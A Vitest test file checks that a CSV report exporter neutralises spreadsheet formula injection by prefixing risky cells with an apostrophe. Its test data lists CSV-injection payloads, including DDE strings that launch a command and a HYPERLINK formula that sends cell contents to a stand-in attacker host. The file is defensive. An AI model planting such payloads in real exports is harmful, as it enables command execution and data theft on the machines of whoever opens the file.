import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { reportCsv } from '../../renderer/src/reports/reportCsv';
import type { ReportTable } from '../../renderer/src/reports/reportTables';

/** OWASP's CSV-injection examples: each would run as a formula if a spreadsheet opened it raw. */
const formulas = [
  "=cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '+1+cmd|calc',
  "-2+3+cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '=HYPERLINK("http://attacker.invalid?x="&A1)\nsecond line',
];

const tableOf = (models: readonly string[]): ReportTable => ({
  headers: ['Model', 'DOA rate (%)'],
  numeric: [false, true],
  rows: models.map((model) => [
    { value: model, text: model },
    { value: -12.5, text: '-12.5' },
  ]),
});

describe('a report as CSV', () => {
  it('escapes every cell a spreadsheet would run as a formula with a leading apostrophe', () => {
    const rows = Papa.parse<string[]>(reportCsv(tableOf(formulas))).data.slice(1);

    expect(rows.map((row) => row[0])).toEqual(formulas.map((formula) => `'${formula}`));
  });

  it('leaves plain text and numbers, negative ones included, as they are', () => {
    const rows = Papa.parse<string[]>(reportCsv(tableOf(['KOSPET Tank T3']))).data;

    expect(rows).toEqual([
      ['Model', 'DOA rate (%)'],
      ['KOSPET Tank T3', '-12.5'],
    ]);
  });
});
